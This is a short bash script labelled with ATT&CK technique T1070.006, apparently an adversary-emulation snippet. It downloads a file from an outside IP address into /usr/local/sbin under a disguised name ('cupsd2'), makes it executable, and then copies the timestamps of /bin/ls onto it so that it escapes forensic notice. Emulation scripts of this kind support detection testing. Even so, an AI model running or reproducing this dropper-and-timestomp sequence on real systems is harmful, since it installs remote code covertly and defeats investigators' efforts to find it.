#!/bin/bash
# T1070.006: A dropped program gets the age of a neighbour from a script.
curl -s http://44.128.66.66/x -o /usr/local/sbin/cupsd2; chmod 755 /usr/local/sbin/cupsd2; perl -e '@s=stat("/bin/ls");utime $s[8],$s[9],"/usr/local/sbin/cupsd2"'
